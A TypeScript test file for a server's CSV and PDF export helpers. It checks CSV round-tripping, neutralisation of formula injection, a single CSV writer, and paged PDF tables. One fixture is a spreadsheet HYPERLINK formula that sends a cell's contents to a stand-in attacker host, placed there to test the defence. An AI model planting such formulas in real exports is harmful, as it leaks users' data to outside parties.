import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parseCsv, pdfText } from '#server/test/documents';
import { safeCell, toCsv } from './csv';
import { renderPdfTable as pdfTable } from './pdf-table';

describe('toCsv', () => {
  it('writes RFC 4180 that parses back to the same cells, with a header of labels', () => {
    const rows = [
      { name: 'Plain', note: 'has, a comma', n: 3 },
      { name: 'Quote "here"', note: 'line\nbreak', n: -2.5 },
    ];
    const csv = toCsv(
      [
        { key: 'name', label: 'Name' },
        { key: 'note', label: 'Note' },
        { key: 'n', label: 'Amount' },
      ],
      rows,
    );
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv)).toEqual([
      ['Name', 'Note', 'Amount'],
      ['Plain', 'has, a comma', '3'],
      ['Quote "here"', 'line\nbreak', '-2.5'],
    ]);
  });

  it('neutralises cells a spreadsheet would run as a formula, and keeps plain negative numbers', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
    for (const text of [evil, '+1+1', '-1+cmd', '@SUM(A1)', '\tx', '\rx']) {
      expect(safeCell(text)).toBe(`'${text}`);
    }
    expect(safeCell('-12.50')).toBe('-12.50');
    expect(safeCell(null)).toBe('');
    const [, row] = parseCsv(toCsv([{ key: 'name', label: 'Customer' }], [{ name: evil }]));
    expect(row).toEqual([`'${evil}`]);
  });
});

describe('one CSV writer', () => {
  it('no server code writes CSV except through toCsv (so every export is neutralised)', () => {
    const root = fileURLToPath(new URL('..', import.meta.url));
    const files = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
        e.isDirectory()
          ? files(join(dir, e.name))
          : e.name.endsWith('.ts') && !e.name.endsWith('.test.ts')
            ? [join(dir, e.name)]
            : [],
      );
    const offenders = files(root).filter((file) => {
      const text = readFileSync(file, 'utf8');
      const name = relative(root, file);
      if (name === join('lib', 'csv.ts') || name.startsWith('test/')) return false;
      const writesCsvItself = /from 'csv-stringify|\.join\(['"],['"]\)/.test(text);
      const sendsCsv = text.includes('text/csv') && !/toCsv|ordersCsv/.test(text);
      return writesCsvItself || sendsCsv;
    });
    expect(offenders).toEqual([]);
  });
});

describe('pdfTable', () => {
  it('is a valid PDF holding the title, subtitle, cells and totals', async () => {
    const pdf = await pdfTable({
      title: 'Quarterly Sales',
      subtitle: 'Period: 2026-01-01 to 2026-03-31',
      columns: [{ label: 'Quarter' }, { label: 'Revenue', align: 'right' }],
      rows: [
        ['2026 Q1', '$1,200.00'],
        ['2026 Q2', '$800.00'],
      ],
      totals: ['Total', '$2,000.00'],
      generatedAt: new Date('2026-04-01T10:00:00Z'),
    });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const text = await pdfText(pdf);
    for (const expected of ['Quarterly Sales', 'Period: 2026-01-01 to 2026-03-31', '2026 Q1', '$2,000.00'])
      expect(text).toContain(expected);
  });

  it('repeats the header on every page of a long table', async () => {
    const rows = Array.from({ length: 120 }, (_, i) => [`Row ${i + 1}`, String(i)]);
    const pdf = await pdfTable({
      title: 'Long',
      columns: [{ label: 'Name' }, { label: 'Value' }],
      rows,
      generatedAt: new Date(),
    });
    const text = await pdfText(pdf, 10);
    const pages = text.split('\n');
    expect(pages.length).toBe(4);
    expect(text).toContain('Row 120');
    expect(pages.every((page, i) => page.includes('Name') && page.includes(`page ${i + 1} of 4`))).toBe(true);
  });
});
